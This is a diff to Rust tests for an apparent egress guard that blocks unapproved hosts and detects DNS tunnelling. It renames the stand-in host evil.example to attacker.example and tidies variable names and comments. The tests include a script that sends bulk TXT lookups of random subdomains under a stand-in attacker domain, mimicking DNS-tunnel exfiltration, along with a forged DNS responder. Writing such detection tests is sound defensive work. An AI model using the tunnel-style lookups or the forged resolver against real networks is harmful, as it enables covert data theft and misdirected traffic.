@@ -48,7 +48,7 @@ pub(super) fn resolver(network: &Network) -> Result<Dnsmasq> {
     }
     hosts.extend((220..225).map(|number| ("round.plant.example".to_owned(), host(number))));
     hosts.push(("edge.cdn.example".to_owned(), host(230)));
-    hosts.push(("evil.example".to_owned(), host(231)));
+    hosts.push(("attacker.example".to_owned(), host(231)));
     hosts.push(("plant.example".to_owned(), host(232)));
     hosts.push(("myplant.example".to_owned(), host(233)));
     hosts.push(("web.plant.example".to_owned(), Network::ALLOWED));
@@ -142,7 +142,7 @@ fn aliases_round_robin_and_long_answers_count_and_names_that_only_look_alike_do_
         out.round = await Promise.all((await lookup('round.plant.example')).map(reach));
         out.big = await Promise.all((await lookup('big.plant.example')).map(reach));
         out.none = await lookup('none.plant.example');
-        for (const name of ['evil.example', 'plant.example', 'myplant.example', 'edge.cdn.example'])
+        for (const name of ['attacker.example', 'plant.example', 'myplant.example', 'edge.cdn.example'])
             out[name] = await Promise.all((await lookup(name)).map(reach));";
     let (out, records) = under_guard(&scene, &policy(&scene, &["127.0.0.53"]), script)?;
     let all = |what: &str, count: usize, came: &str| {
@@ -153,11 +153,11 @@ fn aliases_round_robin_and_long_answers_count_and_names_that_only_look_alike_do_
     ensure!(out["before"] == "EPERM" && out["none"] == "ENOTFOUND", "{out}");
     all("alias", 1, "ok")?;
     all("round", 5, "ok")?;
-    for name in ["evil.example", "plant.example", "myplant.example"] {
+    for name in ["attacker.example", "plant.example", "myplant.example"] {
         all(name, 1, "EPERM")?;
-        let told =
+        let reported =
             records.iter().any(|record| record.is_alert() && record.pointer_text("/dst_endpoint/hostname") == name);
-        ensure!(told, "no record names {name}: {records:#?}");
+        ensure!(reported, "no record names {name}: {records:#?}");
     }
     // An address that an allowed name gave is allowed by whatever other name.
     all("edge.cdn.example", 1, "ok")?;
@@ -232,7 +232,7 @@ fn an_address_is_a_names_for_its_ttl_and_five_minutes_more_and_what_stands_stand
     echo.join().map_err(|_| anyhow::anyhow!("the echo panicked"))?.map(drop)
 }
 
-/// Answers whoever asks with [`host`] 250, by any name.
+/// Answers every query with [`host`] 250.
 fn forge(socket: &UdpSocket) -> Result<()> {
     let mut bytes = [0; 512];
     let (len, from) = socket.recv_from(&mut bytes)?;
@@ -271,17 +271,20 @@ fn node_red_reaches_a_name_by_the_systems_resolver() -> Result<()> {
     SCENE.with(|scene| {
         let _resolver = resolver(&scene.network)?;
         let sink = Sink::tcp(&scene.network, Network::ALLOWED)?;
-        // Where the machine looks names up is known without being told.
+        // The resolvers of the machine are found without configuration.
         let policy = policy(scene, &[]);
         let port = sink.address().port();
         let named =
             scene.with_guard(&policy, "names", &Flow::http_get(&format!("http://web.plant.example:{port}/")))?;
         ensure!(named.outcome == Outcome::Answered("ok".to_owned()), "{named:#?}");
-        let guarded =
-            scene.with_guard(&policy, "default-egress", &Flow::http_get(&format!("http://evil.example:{port}/")))?;
+        let guarded = scene.with_guard(
+            &policy,
+            "default-egress",
+            &Flow::http_get(&format!("http://attacker.example:{port}/")),
+        )?;
         let alerts = guarded.alerts("default-egress");
-        let told = alerts.iter().any(|alert| alert.pointer_text("/dst_endpoint/hostname") == "evil.example");
-        ensure!(told, "{guarded:#?}");
+        let reported = alerts.iter().any(|alert| alert.pointer_text("/dst_endpoint/hostname") == "attacker.example");
+        ensure!(reported, "{guarded:#?}");
         Ok(())
     })
 }
@@ -302,18 +305,18 @@ fn data_in_questions_is_one_alarm_by_domain_and_look_ups_are_none() -> Result<()
             await Promise.all(Array.from({ length: 8 }, worker));
         };
         await each(2000, number => lookup(`h${10 + number % 190}.plant.example`, number % 3 ? 'A' : 'AAAA'));
-        await each(300, () => lookup(`${random()}.drop.evil.example`, 'TXT'));";
+        await each(300, () => lookup(`${random()}.drop.attacker.example`, 'TXT'));";
     let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
     node(&scene, script)?;
     guard.wait_for(wait::SOON, |record| record.rule() == "dns-tunnel" && record.is_alarm())?;
     let console = guard.console().clone();
     let records = guard.stop()?;
-    let told: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
-    ensure!(told.iter().all(|record| record.rule() == "dns-tunnel"), "{told:#?}");
-    let [event] = told.iter().filter(|record| record.hook() == "dns").collect::<Vec<_>>()[..] else {
-        anyhow::bail!("not one event: {told:#?}");
+    let reported: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
+    ensure!(reported.iter().all(|record| record.rule() == "dns-tunnel"), "{reported:#?}");
+    let [event] = reported.iter().filter(|record| record.hook() == "dns").collect::<Vec<_>>()[..] else {
+        anyhow::bail!("not one event: {reported:#?}");
     };
-    ensure!(event.pointer_text("/unmapped/domain") == "evil.example", "{event:#?}");
+    ensure!(event.pointer_text("/unmapped/domain") == "attacker.example", "{event:#?}");
     ensure!(event.number("/unmapped/names_long") == Some(50), "{event:#?}");
     ensure!(event.pointer_text("/actor/process/name") == "node", "{event:#?}");
     let incidents: Vec<_> = records.iter().filter(|record| record.number("/class_uid") == Some(2004)).collect();
@@ -321,7 +324,10 @@ fn data_in_questions_is_one_alarm_by_domain_and_look_ups_are_none() -> Result<()
         incidents.iter().filter(|incident| incident.pointer_text("/activity_name") == "Create").collect();
     ensure!(begun.len() == 1 && begun[0].pointer_text("/attacks/0/sub_technique/uid") == "T1071.004", "{begun:#?}");
     let said = console.text();
-    ensure!(said.contains("50 different names below evil.example") && said.contains("*.evil.example"), "{said}");
+    ensure!(
+        said.contains("50 different names below attacker.example") && said.contains("*.attacker.example"),
+        "{said}"
+    );
     Ok(())
 }
 
@@ -336,8 +342,8 @@ fn a_flood_of_questions_is_read_up_to_a_bound_and_the_rest_is_counted() -> Resul
         for (let number = 0; number < 5000; number++) await new Promise(done => socket.send(message, done));";
     let guard = Guard::start(Some(&policy(&scene, &["127.0.0.53"])), &scene.cgroup, &[])?;
     node(&scene, script)?;
-    let told = guard.wait_for(wait::SOON, |record| record.number("/unmapped/skipped").is_some())?;
-    ensure!(told.pointer_text("/activity_name") == "Loss", "{told:#?}");
+    let reported = guard.wait_for(wait::SOON, |record| record.number("/unmapped/skipped").is_some())?;
+    ensure!(reported.pointer_text("/activity_name") == "Loss", "{reported:#?}");
     guard.stop().map(drop)
 }
 
